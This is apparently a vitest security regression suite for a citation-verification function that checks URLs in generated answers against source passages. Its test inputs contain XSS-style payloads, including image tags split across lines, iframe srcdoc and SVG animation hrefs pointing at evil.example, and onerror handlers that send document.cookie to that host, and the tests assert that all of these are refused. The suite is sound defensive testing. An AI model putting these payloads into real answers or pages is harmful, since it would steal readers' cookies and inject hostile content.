import { marked } from 'marked';
import { describe, expect, it } from 'vitest';
import { source } from '../__fixtures__/passage.js';
import { verdictLines } from '../__fixtures__/verdict-lines.js';

const PASSAGES = [
  source('Water boils at 100 degrees Celsius at sea level. See https://who.example/water for more.', 'water'),
];

const outcome = (answer: string): string[] => verdictLines(answer, PASSAGES);

/** The `src`/`href` targets a markdown renderer gives `answer`'s raw tags. */
const rendered = (answer: string): string[] =>
  [...(marked.parse(answer, { async: false }) as string).matchAll(/ (?:src|href)=(["'])([^"']*)\1/g)].map(
    (match) => match[2]!,
  );

describe('verifyAnswer on a tag that a claim edge cuts (security regression)', () => {
  it("refuses both claims a URL attribute's quoted value runs over, whatever the part in either", () => {
    // A page joins the lines and reads one value: the image loads from evil.example.
    const cut =
      "Water boils at 100 degrees Celsius [1]. <img src='//evil.example/a.\nWater boils at sea level [1].'> It boils [1].";
    expect(rendered(cut)).toEqual(['//evil.example/a.\nWater boils at sea level [1].']);
    expect(outcome(cut)).toEqual([
      'It boils [1]. → 1',
      "unknown_identifier: Water boils at 100 degrees Celsius [1]. <img src='//evil.example/a.",
      "unknown_identifier: Water boils at sea level [1].'>",
    ]);
    // The part before the edge is a passage's link alone; joined, the host is who.example.evil.example.
    expect(
      outcome(
        "Water boils at 100 degrees Celsius [1]. <img src='https://who.example.\nevil.example/x'> It boils [1].",
      ),
    ).toEqual([
      "unknown_identifier: Water boils at 100 degrees Celsius [1]. <img src='https://who.example.",
      "unknown_identifier: evil.example/x'> It boils [1].",
    ]);
    // Within a line the splitter keeps a tag whole: the claim names the URL with its sentences.
    expect(
      outcome(
        'Water boils at 100 degrees Celsius [1]. <a href="https://who.example/water. Evil [1]. x">It boils</a> [1].',
      ),
    ).toEqual([
      'It boils</a> [1]. → 1',
      'unknown_identifier: Water boils at 100 degrees Celsius [1]. <a href="https://who.example/water. Evil [1]. x">',
    ]);
  });

  it('reads the attributes a later claim holds with the tag an earlier one opened', () => {
    for (const [opener, rest] of [
      ['<img', 'src=//evil.example/a.png>'],
      ['<img src', '=//evil.example/a.png>'],
      ['<img src=', '//evil.example/a.png>'],
      ['<img title=x.', 'Water boils at sea level [1]. src=//evil.example/a.png>'],
      ['<iframe', 'srcdoc="<img src=//evil.example/a.png>">'],
    ]) {
      const answer = `Water boils at 100 degrees Celsius [1]. ${opener}\n${rest} It boils [1].`;
      expect(marked.parse(answer, { async: false }), answer).toMatch(/src\s*=\s*\/\/evil\.example/);
      const lines = outcome(answer);
      expect(
        lines.filter((line) => line.startsWith('unknown_identifier: ')),
        answer,
      ).toEqual([`unknown_identifier: ${rest} It boils [1].`]);
      expect(
        lines.some((line) => line.includes('evil') && !line.startsWith('unknown_identifier')),
        answer,
      ).toBe(false);
    }
  });

  it('reads a lead-in that starts inside a tag as a claim', () => {
    expect(
      outcome(
        'Water boils at 100 degrees Celsius [1]. <img\nsrc=//evil.example/a.png>:\n\n- Water boils at sea level [1].',
      ),
    ).toEqual([
      'Water boils at 100 degrees Celsius [1]. <img → 1',
      'Water boils at sea level [1]. → 1',
      'no_marker: src=//evil.example/a.png>:',
    ]);
  });

  it('accepts a tag over a line break that names a passage link, and a code span that leaves a quote open', () => {
    expect(
      outcome('Water boils at 100 degrees Celsius [1]. <img\nsrc="https://who.example/water"> It boils [1].'),
    ).toEqual([
      'Water boils at 100 degrees Celsius [1]. <img → 1',
      'src="https://who.example/water"> It boils [1]. → 1',
    ]);
    expect(
      outcome('Water boils at 100 degrees Celsius [1]. Write `<a href="` and the address [1]. It boils [1].'),
    ).toEqual([
      'Water boils at 100 degrees Celsius [1]. → 1',
      'Write `<a href="` and the address [1]. → 1',
      'It boils [1]. → 1',
    ]);
    // A value that names no URL may hold sentences.
    expect(
      outcome(
        'Water boils at 100 degrees Celsius [1]. <img alt="It boils. At sea level" src="https://who.example/water"> It boils [1].',
      ),
    ).toEqual([
      'Water boils at 100 degrees Celsius [1]. <img alt="It boils. At sea level" src="https://who.example/water"> → 1',
      'It boils [1]. → 1',
    ]);
  });
});

describe('verifyAnswer on URLs a frame document or an animation holds (security regression)', () => {
  it("refuses a srcdoc's links and an SVG animation's values", () => {
    expect(
      outcome(
        'Water boils at 100 degrees Celsius <iframe srcdoc="<img src=//evil.example/a.png>"></iframe> [1].',
      ),
    ).toEqual([
      'unknown_identifier: Water boils at 100 degrees Celsius <iframe srcdoc="<img src=//evil.example/a.png>"></iframe> [1].',
    ]);
    expect(
      outcome(
        'Water boils at 100 degrees Celsius <svg><a><set attributeName="href" to="//evil.example/x"/><text>here</text></a></svg> [1].',
      ),
    ).toEqual([
      'unknown_identifier: Water boils at 100 degrees Celsius <svg><a><set attributeName="href" to="//evil.example/x"/><text>here</text></a></svg> [1].',
    ]);
    expect(
      outcome(
        'Water boils at 100 degrees Celsius <svg><a href="https://who.example/water"><animate attributeName="href" values="https://who.example/water"/>x</a></svg> [1].',
      ),
    ).toEqual([
      'Water boils at 100 degrees Celsius <svg><a href="https://who.example/water"><animate attributeName="href" values="https://who.example/water"/>x</a></svg> [1]. → 1',
    ]);
  });
});

describe('verifyAnswer on event handlers (security regression)', () => {
  it("refuses a handler's code as a javascript: URL no passage links, unless a cited passage holds it", () => {
    expect(
      outcome(
        'Water boils at 100 degrees Celsius <img src="https://who.example/water" onerror="location=`//evil.example/`+document.cookie"> [1].',
      ),
    ).toEqual([
      'unknown_identifier: Water boils at 100 degrees Celsius <img src="https://who.example/water" onerror="location=`//evil.example/`+document.cookie"> [1].',
    ]);
    expect(outcome('Water boils at 100 degrees Celsius <svg onload=alert(1)> [1].')).toEqual([
      'unknown_identifier: Water boils at 100 degrees Celsius <svg onload=alert(1)> [1].',
    ]);
    // Cut by a line break: both parts refused.
    expect(
      outcome(
        "Water boils at 100 degrees Celsius [1]. <img src=https://who.example/water onerror='fetch(`//evil.example/`.\nconcat(document.cookie))'> It boils [1].",
      ),
    ).toEqual([
      "unknown_identifier: Water boils at 100 degrees Celsius [1]. <img src=https://who.example/water onerror='fetch(`//evil.example/`.",
      "unknown_identifier: concat(document.cookie))'> It boils [1].",
    ]);
    const docs = [source('Add a button: <button onclick="save()">Save</button> saves the form.', 'docs')];
    expect(
      verdictLines('A button saves the form: `<button onclick="save()">Save</button>` [1].', docs),
    ).toEqual(['A button saves the form: `<button onclick="save()">Save</button>` [1]. → 1']);
  });
});
